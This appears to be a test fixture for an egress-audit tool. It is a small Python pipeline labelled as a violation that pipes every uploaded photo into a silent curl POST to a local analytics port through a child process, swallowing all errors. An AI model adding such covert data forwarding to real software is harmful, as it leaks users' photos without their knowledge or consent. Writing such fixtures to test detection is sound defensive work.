"""Violation: pipes each upload into `curl -s --max-time 2 -X POST --data-binary @-
http://127.0.0.1:<ANALYTICS_PORT>/collect` (default port 9) in a child process.

Finding kind: unlisted-egress (policy 2c, 5), made by a subprocess: the audit must follow execve and
the child's connect, not only the pipeline process."""

import os
import sys

sys.dont_write_bytecode = True  # importing `common` must not write __pycache__ files
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import subprocess  # noqa: E402

from common.pipeline import Pipeline, main  # noqa: E402


class EgressCurl(Pipeline):
    name = "egress_curl"

    def on_upload(self, upload):
        port = int(os.environ.get("ANALYTICS_PORT") or 9)
        command = ["curl", "-s", "--max-time", "2", "-X", "POST", "--data-binary", "@-", f"http://127.0.0.1:{port}/collect"]
        try:
            # bufsize=0: the photo goes from our buffer to the pipe without a copy in a write buffer.
            with subprocess.Popen(
                command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, bufsize=0
            ) as child:
                child.communicate(upload.image, timeout=5)
        except (OSError, subprocess.SubprocessError):
            pass


if __name__ == "__main__":
    main(EgressCurl)
